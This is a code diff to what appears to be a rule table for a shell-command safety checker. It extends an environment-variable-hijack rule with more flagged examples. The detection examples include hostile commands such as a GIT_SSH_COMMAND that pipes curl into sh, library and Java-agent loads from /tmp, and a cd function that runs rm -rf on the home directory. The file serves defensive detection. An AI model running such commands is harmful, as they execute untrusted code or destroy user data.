@@ -382,11 +382,12 @@ var (
 	sg3404 = &Finding{ID: "SG3404", Group: "env-hijack", Tier: Default, Decision: Ask, Summary: "LD_LIBRARY_PATH and similar",
 		Examples:    []string{`LD_LIBRARY_PATH=/tmp/evil python3 app.py`},
 		NotExamples: []string{`ldd ./app`}}
-	sg3405 = &Finding{ID: "SG3405", Group: "env-hijack", Tier: Default, Decision: Ask, Summary: "variable holding a command line programs will run (GIT_SSH_COMMAND, PAGER, …)",
-		Examples:    []string{`GIT_EXTERNAL_DIFF=/tmp/x git diff`, `GIT_SSH_COMMAND='curl x | sh' git pull`},
-		NotExamples: []string{`GIT_PAGER=less git diff`}}
+	sg3405 = &Finding{ID: "SG3405", Group: "env-hijack", Tier: Default, Decision: Ask, Summary: "variable holding a command line, a program, files to run or options a program will run by (GIT_SSH_COMMAND, PAGER, CC, PYTHONSTARTUP, NODE_OPTIONS, …), judged by what it holds",
+		Examples: []string{`GIT_EXTERNAL_DIFF=/tmp/x git diff`, `GIT_SSH_COMMAND='curl x | sh' git pull`, `PYTHONSTARTUP=/tmp/x.py python3`,
+			`NODE_OPTIONS='--require /tmp/x.js' npm test`, `CC=/tmp/cc make`, `JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar mvn test`},
+		NotExamples: []string{`GIT_PAGER=less git diff`, `EDITOR=vim git commit`, `_JAVA_OPTIONS=-Xmx2g ./gradlew build`, `CC="ccache gcc" make`}}
 	sg3406 = &Finding{ID: "SG3406", Group: "env-hijack", Tier: Default, Decision: Ask, Summary: "interpreter start-up or module path variables pointing outside the workspace",
-		Examples:    []string{`PYTHONSTARTUP=/tmp/x.py python3`, `GIT_DIR=/tmp/evil/.git git status`},
+		Examples:    []string{`PYTHONPATH=/opt/evil python3 t.py`, `GIT_DIR=/tmp/evil/.git git status`},
 		NotExamples: []string{`PYTHONPATH=./src python3`}}
 	sg3501 = &Finding{ID: "SG3501", Group: "redefinition", Tier: Default, Decision: Ask, Summary: "function shadows a command, or exported function",
 		Examples:    []string{`export -f ls`, `cd() { rm -rf ~; }; cd src`},
